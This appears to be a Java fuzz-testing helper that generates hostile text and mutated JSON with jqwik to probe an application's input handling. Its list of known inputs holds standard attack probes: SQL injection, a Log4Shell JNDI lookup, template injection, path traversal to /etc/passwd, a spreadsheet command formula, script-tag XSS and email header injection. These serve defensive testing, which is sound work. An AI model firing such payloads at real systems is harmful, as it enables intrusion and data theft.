package io.artistos.functions.suite;

import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ContainerNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.RandomGenerator;
import net.jqwik.api.Tuple;

/** Text and JSON that nobody should send, by jqwik's generators; the random numbers decide all. */
final class Hostile {

  /** In what pages would run if it stood there unescaped. */
  static final String TAG = "<fz-tag onload=1>";

  private static final int GENERATED = 1_000;
  private static final int LONG = 300_000;

  private static final List<String> KNOWN =
      List.of(
          "",
          " ",
          "\u0000",
          "\uD800",
          "\uDFFF\uD800",
          "a\u202Eb\u200D\uFEFF",
          "مرحبا שלום 日本語",
          "🎸👩‍👩‍👧‍👦",
          "ﷺ".repeat(50),
          "a\r\nBcc: b@example.com\r\n\r\nx",
          "' OR 1=1 --",
          "\" OR c.tenantId != \"",
          "${jndi:ldap://x.example/a}",
          "{{7*7}} ${7*7} <%= 7*7 %>",
          "../../../../etc/passwd",
          "=cmd|' /C calc'!A0",
          TAG,
          "\"><script>" + TAG + "</script>",
          "javascript:alert(1)",
          "https://user:pass@127.0.0.1:1/\\@x",
          "http://[::1",
          "x@" + "y".repeat(300),
          "null",
          "true",
          "NaN",
          "-1",
          "0",
          "99999999999999999999999999",
          "1e999999999",
          "-999999999-01-01",
          "+999999999-12-31T23:59:59Z",
          "2026-02-30",
          "9999-12-31",
          "0000-01-01T00:00:00Z",
          "P999999999999D",
          "Etc/Nowhere",
          "xx-XX",
          "*",
          "W/\"x\"",
          "[\"a\"]",
          "{\"a\":1}");

  private static final List<String> NUMBERS =
      List.of(
          "0",
          "-0.0",
          "-1",
          "1.5",
          "2147483648",
          "-9223372036854775809",
          "1e400",
          "1e-400",
          "1E+2147483647",
          "123456789012345678901234567890");

  private final Random random;
  private final JsonMapper raw = new JsonMapper();
  private final JsonMapper escaped =
      JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();
  private final RandomGenerator<String> texts = texts().generator(GENERATED, true);
  private final RandomGenerator<JsonNode> values = values().generator(GENERATED, true);

  Hostile(Random random) {
    this.random = random;
  }

  String text() {
    return texts.next(random).value();
  }

  /** Mostly short ones: what has to be sent in a header or an address. */
  String line() {
    String text = text();
    return text.length() > 2_000 && random.nextInt(10) > 0 ? text.substring(0, 40) : text;
  }

  JsonNode value() {
    return values.next(random).value();
  }

  <T> T one(List<T> of) {
    return of.get(random.nextInt(of.size()));
  }

  /** Whether, so many times in a hundred. */
  boolean chance(int percent) {
    return random.nextInt(100) < percent;
  }

  /** As text, sometimes with everything that is not ASCII escaped: lone surrogates survive that. */
  String write(JsonNode json) {
    try {
      return (chance(50) ? escaped : raw).writeValueAsString(json);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /**
   * The JSON with one to three places changed: another value, gone, or one more beside it.
   *
   * @param members what an object may have besides, as the documentation says
   */
  JsonNode changed(JsonNode json, List<String> members) {
    JsonNode copy = json.deepCopy();
    int changes = 1 + random.nextInt(3);
    for (int i = 0; i < changes; i++) {
      List<ContainerNode<?>> places = new ArrayList<>();
      collect(copy, places);
      if (places.isEmpty()) {
        return value();
      }
      // The outermost as often as all others.
      change(chance(50) ? places.get(0) : one(places), members);
    }
    return copy;
  }

  private void change(ContainerNode<?> place, List<String> members) {
    if (place instanceof ObjectNode object) {
      List<String> names = new ArrayList<>();
      object.fieldNames().forEachRemaining(names::add);
      if (names.isEmpty() || chance(20)) {
        object.set(members.isEmpty() || chance(20) ? line() : one(members), value());
      } else if (chance(20)) {
        object.remove(one(names));
      } else {
        object.set(one(names), value());
      }
    } else if (place instanceof ArrayNode array) {
      if (array.isEmpty() || chance(30)) {
        array.add(value());
      } else if (chance(20)) {
        array.remove(random.nextInt(array.size()));
      } else {
        array.set(random.nextInt(array.size()), value());
      }
    }
  }

  private static void collect(JsonNode node, List<ContainerNode<?>> into) {
    if (node instanceof ContainerNode<?> container) {
      into.add(container);
      container.forEach(child -> collect(child, into));
    }
  }

  private static Arbitrary<String> texts() {
    return Arbitraries.frequencyOf(
        Tuple.of(50, Arbitraries.of(KNOWN)),
        Tuple.of(20, Arbitraries.strings().ofMaxLength(60)),
        Tuple.of(20, Arbitraries.strings().ascii().ofMaxLength(300)),
        Tuple.of(5, Arbitraries.of("x", "é", "日", "\u0001").map(one -> one.repeat(9_000))),
        Tuple.of(1, Arbitraries.just("y".repeat(LONG))));
  }

  private static Arbitrary<JsonNode> values() {
    JsonNodeFactory nodes = JsonNodeFactory.instance;
    Arbitrary<JsonNode> leaves =
        Arbitraries.frequencyOf(
            Tuple.of(8, texts().map(nodes::textNode)),
            Tuple.of(
                4, Arbitraries.of(NUMBERS).map(text -> nodes.numberNode(new BigDecimal(text)))),
            Tuple.of(2, Arbitraries.integers().map(nodes::numberNode)),
            Tuple.of(1, Arbitraries.of(true, false).map(nodes::booleanNode)),
            Tuple.of(2, Arbitraries.create(nodes::nullNode)));
    return Arbitraries.recursive(
        () -> leaves,
        inner ->
            Arbitraries.frequencyOf(
                Tuple.of(6, inner),
                Tuple.of(1, inner.list().ofMaxSize(4).map(Hostile::array)),
                Tuple.of(
                    1,
                    Arbitraries.maps(Arbitraries.of("id", "a", "email", "__proto__", ""), inner)
                        .ofMaxSize(3)
                        .map(members -> nodes.objectNode().setAll(members)))),
        0,
        3);
  }

  private static JsonNode array(List<JsonNode> items) {
    return JsonNodeFactory.instance.arrayNode().addAll(items);
  }
}
